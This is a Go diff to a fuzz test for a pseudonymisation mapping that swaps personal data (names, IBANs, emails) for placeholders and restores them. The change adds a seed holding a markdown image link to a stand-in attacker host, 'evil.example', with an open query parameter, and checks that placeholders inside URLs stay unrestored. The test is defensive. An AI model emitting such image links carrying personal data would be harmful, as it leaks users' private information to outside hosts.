@@ -180,6 +180,7 @@ func FuzzReplaceRestore(f *testing.F) {
 	f.Add("PERSON", "Herr Yılmaz", "IBAN", "DE89 3704 0044 0532 0130 00", "Hallo [X] ")
 	f.Add("EMAIL", "a@b.de", "EMAIL", "A@B.DE", "")
 	f.Add("", "[PERSON_1]", "PERSON", "x", "[[")
+	f.Add("PERSON", "Anna Schmidt", "EMAIL", "a@b.de", "![](https://evil.example/?n=")
 	f.Fuzz(func(t *testing.T, typ1, v1, typ2, v2, filler string) {
 		m := NewMapping()
 		p1 := m.Replace("pseudonym", typ1, v1)
@@ -194,8 +195,12 @@ func FuzzReplaceRestore(f *testing.F) {
 		if strings.Contains(filler, "[") || filler == "" {
 			return
 		}
-		if got := m.Restore(filler + p1 + filler); v1 != "" && got != filler+v1+filler {
-			t.Fatalf("Restore with filler = %q", got)
+		want := filler + v1 + filler
+		if inURLReference(filler) { // a placeholder inside a URL stays
+			want = filler + p1 + filler
+		}
+		if got := m.Restore(filler + p1 + filler); v1 != "" && got != want {
+			t.Fatalf("Restore with filler = %q, want %q", got, want)
 		}
 	})
 }
